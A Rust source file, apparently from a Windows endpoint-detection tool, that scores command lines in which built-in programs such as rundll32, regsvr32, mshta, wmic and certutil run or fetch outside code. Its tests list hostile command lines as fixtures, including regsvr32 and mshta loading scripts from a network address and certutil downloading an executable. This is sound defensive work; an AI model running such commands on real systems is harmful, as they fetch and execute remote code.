//! Arguments by which a program of Windows runs other people's code.

use sandtrap_sdk::windows::{ProcessName, command_line, path, process_name::DOTNET_UTILITIES};

use crate::spawn::is_planted;

/// What a command line gives away.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Abuse {
    /// What it adds.
    pub score: i32,
    /// What was seen.
    pub note: String,
    /// The module that is loaded from where users can write. A valid signature
    /// of it explains why.
    pub module: Option<String>,
}

/// What is wrong with the arguments of a program, if anything.
pub fn abuse(name: &ProcessName, line: &str) -> Option<Abuse> {
    let arguments: Vec<String> = command_line::arguments_after_executable(line)
        .take(64)
        .map(|argument| argument.text.into_owned())
        .collect();
    let first = arguments.first().map_or("", String::as_str);
    let found = |score: i32, what: &str, value: &str| {
        let value: String = value.chars().take(200).collect();
        Some(Abuse {
            score,
            note: format!("{} {what}: {value}", name.file_name()),
            module: is_planted(&value).then_some(value),
        })
    };
    let remote = arguments.iter().find(|argument| is_remote(argument));
    let planted = || {
        arguments
            .iter()
            .map(|argument| value_of(argument))
            .find(|path| is_planted(path))
    };

    if name.is("rundll32.exe") {
        let module = module_of(line);
        let lower = first.to_ascii_lowercase();
        return if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
            found(25, "was told to run script", first)
        } else if is_planted(&module) {
            found(20, "loads a module from where users can write", &module)
        } else if first
            .split_once(",#")
            .is_some_and(|(_, number)| is_number(number))
            && path::place(&module) == path::Place::Other
        {
            found(15, "calls a module by ordinal", first)
        } else {
            None
        };
    }
    if name.is("regsvr32.exe") {
        if let Some(remote) = remote {
            return found(25, "loads from the network", remote);
        }
        return planted()
            .and_then(|path| found(20, "registers a module from where users can write", path));
    }
    if name.is_any(&["mshta.exe", "wscript.exe", "cscript.exe"]) {
        let lower = first.to_ascii_lowercase();
        if lower.starts_with("javascript:") || lower.starts_with("vbscript:") {
            return found(25, "was told to run script", first);
        }
        if let Some(remote) = remote {
            return found(25, "runs a script from the network", remote);
        }
        return planted()
            .and_then(|path| found(15, "runs a script from where users can write", path));
    }
    if name.is_any(&[
        "wmic.exe",
        "msxsl.exe",
        "cmstp.exe",
        "odbcconf.exe",
        "hh.exe",
    ]) {
        return remote.and_then(|remote| found(25, "loads from the network", remote));
    }
    if name.is_any(&["certutil.exe", "bitsadmin.exe"]) {
        return remote.and_then(|remote| found(15, "fetches from the network", remote));
    }
    if name.is_any(DOTNET_UTILITIES) && !name.is_any(&["csc.exe", "vbc.exe"]) {
        return planted()
            .and_then(|path| found(20, "runs a file from where users can write", path));
    }
    None
}

/// The module that `rundll32` loads: up to the comma before the entry point.
fn module_of(line: &str) -> String {
    let (_, rest) = command_line::split_executable(line);
    let rest = rest.trim_start();
    let module = match rest.strip_prefix('"') {
        Some(quoted) => quoted.split('"').next(),
        None => rest.split([',', ' ']).next(),
    };
    let module = module.unwrap_or_default();
    module.split(',').next().unwrap_or_default().to_owned()
}

/// What follows the colon or equals sign of a switch, or the argument itself.
fn value_of(argument: &str) -> &str {
    let switch = argument.strip_prefix(['/', '-']);
    switch
        .and_then(|rest| rest.split_once([':', '=']))
        .map_or(argument, |(_, value)| value)
}

fn is_remote(argument: &str) -> bool {
    let lower = argument.to_ascii_lowercase();
    ["http://", "https://", "ftp://", "davwwwroot"]
        .iter()
        .any(|mark| lower.contains(mark))
}

fn is_number(text: &str) -> bool {
    !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(line: &str) -> i32 {
        let name = ProcessName::of(command_line::executable(line), "");
        abuse(&name, line).map_or(0, |abuse| abuse.score)
    }

    #[test]
    fn abuse_is_told_from_use() {
        for (line, expected) in [
            (
                "regsvr32.exe /s /n /u /i:http://198.51.100.4:8444/a.sct scrobj.dll",
                25,
            ),
            ("regsvr32.exe /s C:\\Users\\Public\\a.dll", 20),
            ("regsvr32.exe /s C:\\Windows\\System32\\a.dll", 0),
            ("rundll32.exe C:\\ProgramData\\a.dll,Start", 20),
            ("rundll32.exe \"C:\\Users\\a b\\x.dll\",Start", 20),
            (
                "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
                25,
            ),
            (
                "rundll32.exe C:\\Windows\\System32\\printui.dll,PrintUIEntry /ga",
                0,
            ),
            ("rundll32.exe C:\\Tools\\x.dll,#1", 15),
            ("mshta.exe http://198.51.100.4/a.hta", 25),
            ("wscript.exe C:\\Users\\a\\Downloads\\x.js", 15),
            ("wscript.exe \\\\corp.example\\netlogon\\logon.vbs", 0),
            (
                "wmic.exe process get brief /format:\"https://198.51.100.4/x.xsl\"",
                25,
            ),
            ("certutil.exe -urlcache -f http://198.51.100.4/x x.exe", 15),
            ("certutil.exe -verify x.cer", 0),
            ("InstallUtil.exe /logfile= /u C:\\ProgramData\\x.dll", 20),
            ("msbuild.exe C:\\Program Files\\app\\build.proj", 0),
            ("", 0),
        ] {
            assert_eq!(score(line), expected, "{line}");
        }
    }
}
